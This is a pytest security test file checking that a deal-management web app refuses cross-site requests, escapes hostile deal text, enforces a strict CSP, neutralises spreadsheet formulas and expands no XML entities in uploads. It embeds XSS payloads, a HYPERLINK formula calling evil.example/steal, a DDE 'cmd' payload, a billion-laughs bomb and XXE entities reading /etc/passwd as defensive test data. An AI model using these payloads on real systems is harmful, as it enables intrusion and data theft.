"""What held under attack keeps holding: every state-changing route refuses a cross-site request even with a valid
CSRF token; hostile deal text is escaped on every page and no page carries an inline script (the CSP forbids
them); a spreadsheet formula in deal text is exported as text; XML entity bombs and external entities in an
uploaded document expand nothing. (Version conflicts answered 409 and crash safety: test_error_shape.py,
test_store_crash.py.)"""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import openpyxl
import pytest

from principal.store import reviews
from principal.store.database import Store
from principal.web.settings import WebSettings
from tests.web.conftest import LOCAL, WebClient, make_client
from tests.web.test_error_shape import UNSAFE, routes

SCRIPT = '<script>alert("name")</script>'
IMAGE = '"><img src=x onerror=alert(1)>'
SVG = "<svg onload=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/steal","click")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
CROSS_SITE = ({"Origin": "http://evil.example"}, {"Sec-Fetch-Site": "cross-site"}, {"Referer": "http://evil.example/"})


def _hostile(seed_text: str) -> str:
    def quoted(value: str) -> str:
        return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'

    text = re.sub(r"^name: .*$", f"name: {quoted(SCRIPT + ' ' + FORMULA)}", seed_text, count=1, flags=re.M)
    text = re.sub(r"^vendor: .*$", f"vendor: {quoted(IMAGE)}", text, count=1, flags=re.M)
    text = text.replace("- name: Professional services (implementation)", f"- name: {quoted(COMMAND)}", 1)
    text = text.replace("label: Vendor's first proposal", f"label: {quoted(SVG)}", 1)
    assert text.count(SCRIPT.replace('"', '\\"')) == 1 and SVG in text
    return text


@pytest.fixture
def hostile(web: WebClient, seed_text: str) -> WebClient:
    created = web.client.post(
        "/api/deals", json={"yaml": _hostile(seed_text), "author": "mallory"}, headers={"X-CSRF-Token": web.csrf}
    )
    assert created.status_code == 201, created.text[:300]
    changed = _hostile(seed_text).replace(f'label: "{SVG}"', f'label: "{SVG} {SCRIPT.replace(chr(34), chr(39))}"')
    saved = web.client.post(
        "/api/deals/1/versions", json={"yaml": changed, "author": "mallory"}, headers={"X-CSRF-Token": web.csrf}
    )
    assert saved.status_code == 201, saved.text[:300]
    return web


def test_every_state_changing_route_refuses_a_cross_site_request(seeded: WebClient) -> None:
    unsafe = [(m, p) for m, p in routes(seeded.client.app) if m in UNSAFE]
    assert len(unsafe) >= 10
    for method, path in unsafe:
        url = path.replace("{deal_id}", "1").replace("{number}", "1").replace("{offer}", "final")
        for headers in CROSS_SITE:
            response = seeded.client.request(
                method, url, data={"csrf_token": seeded.csrf}, headers={"X-CSRF-Token": seeded.csrf, **headers}
            )
            assert response.status_code == 403, (method, url, headers, response.status_code)
    assert seeded.client.get("/api/deals/1").json()["latest"]["number"] == 1
    assert len(seeded.client.get("/api/deals").json()["deals"]) == 1


def _pages(web: WebClient) -> dict[str, Any]:
    paths = ["/", "/deals/1/offers/original", "/deals/1/diff?old=1&new=2", "/deals/1/versions/1/deal.yaml"]
    paths += [p.replace("{deal_id}", "1") for m, p in routes(web.client.app) if m == "GET"]
    paths = [p for p in dict.fromkeys(paths) if "{" not in p and not p.startswith(("/api", "/logout"))]
    paths.remove("/deals/1/diff")  # needs its versions: asked for above
    return {path: web.client.get(path) for path in paths}


def test_hostile_deal_text_is_escaped_on_every_page(hostile: WebClient) -> None:
    pages = _pages(hostile)
    html = {p: r for p, r in pages.items() if r.headers.get("content-type", "").startswith("text/html")}
    assert {"/", "/deals/1", "/deals/1/cost", "/deals/1/strategy", "/deals/1/offers/original"} <= set(html)
    for path, response in html.items():
        # the calendar download of a deal nobody signed is refused with an error page (still escaped, checked below)
        expected = 422 if path.endswith("/signed/dates.ics") else 200
        assert response.status_code == expected, (path, response.status_code)
        page = response.text
        for raw in ("<script>alert(", "<img src=x", "<svg onload"):
            assert raw not in page, (path, raw)
    assert "&lt;script&gt;alert(&#34;name&#34;)&lt;/script&gt;" in html["/deals/1"].text
    assert "&lt;svg onload=alert(2)&gt;" in html["/deals/1/offers/original"].text


def test_every_page_has_the_strict_csp_and_no_inline_script(hostile: WebClient) -> None:
    for path, response in _pages(hostile).items():
        policy = dict(d.strip().split(" ", 1) for d in response.headers["content-security-policy"].split(";"))
        assert (policy["default-src"], policy["script-src"], policy["frame-ancestors"]) == (
            "'none'",
            "'self'",
            "'none'",
        )
        assert (policy["base-uri"], policy["form-action"]) == ("'none'", "'self'"), path
        assert "unsafe" not in response.headers["content-security-policy"], path
        if not response.headers.get("content-type", "").startswith("text/html"):
            continue
        for tag in re.findall(r"<script\b[^>]*>", response.text):
            assert re.search(r'\bsrc="/static/|\btype="application/json"', tag), (path, tag)
        # no inline event handler (attribute values blanked first: escaped deal text in a value="..." is not one)
        tags = re.sub(r'"[^"]*"', '""', response.text)
        assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", tags), path
        assert "javascript:" not in response.text, path


def test_a_formula_in_deal_text_is_exported_as_text(hostile: WebClient) -> None:
    download = hostile.client.get("/deals/1/exports/brief.xlsx")
    assert download.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(download.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    formulas = [str(c.value) for c in cells if c.data_type == "f"]
    assert formulas  # the cost sheets are live formulas...
    assert not [f for f in formulas if "evil.example" in f or "cmd|" in f]  # ...but none came from deal text
    texts = [str(c.value) for c in cells if c.data_type == "s"]
    assert any(FORMULA in t for t in texts)
    assert any(t.startswith(COMMAND) for t in texts)  # a payload at the start of a cell is still a text cell


def _docx(document_xml: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as docx:
        docx.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        docx.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>',
        )
        docx.writestr("word/document.xml", document_xml)
    return buffer.getvalue()


CONTRACT = (
    "This Order Form is governed by the Master Services Agreement between Customer and Provider. "
    "The subscription term is thirty-six (36) months. Fees are invoiced annually in advance and payable net 30. "
    "Provider shall meet the service level of 99.9% monthly availability and shall credit Customer for failures. "
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = {
    "billion laughs": f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{LAUGHS}]>',
    "external entity": '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "parameter entity": '<!DOCTYPE w:document [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
}
REFERENCE = {"billion laughs": "&l9;", "external entity": "&xxe;", "parameter entity": ""}


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_xml_entities_in_an_uploaded_document_expand_nothing(seeded: WebClient, bomb: str) -> None:
    body = (
        f'<?xml version="1.0"?>{BOMBS[bomb]}<w:document xmlns:w="http://schemas.openxmlformats.org/'
        f'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{CONTRACT}{REFERENCE[bomb]}</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    data = {"csrf_token": seeded.csrf, "author": "mallory"}
    files = {"file": ("order.docx", _docx(body))}
    response = seeded.client.post("/deals/1/review", data=data, files=files, follow_redirects=False)
    assert response.status_code in (303, 422), (response.status_code, response.text[:300])
    store: Store = seeded.client.app.state.store  # type: ignore[attr-defined]
    for info in reviews.list_reviews(store, 1):
        for document in info.documents:
            extracted = reviews.get_document(store, document.id).extracted_text
            assert "lollol" not in extracted and "root:" not in extracted
    if response.status_code == 303:
        page = seeded.client.get(response.headers["location"]).text
        assert "lollol" not in page and "root:x:" not in page
    assert seeded.client.get("/health").status_code == 200


def test_a_cross_site_login_is_refused(sqlite_store: Store) -> None:
    token = "Vq3xN8rT0-kWm2ZpLc7YhB5sJd9FgA4uEo1iXnRbQyK"
    client = make_client(sqlite_store, WebSettings(host="0.0.0.0", token=token))
    web = WebClient(client)
    refused: Any = web.post_form("/login", {"token": token}, headers={"Origin": "http://evil.example"})
    assert refused.status_code == 403
    assert "principal_access" not in refused.cookies
    assert client.get("/", headers={"Origin": LOCAL}).status_code == 401
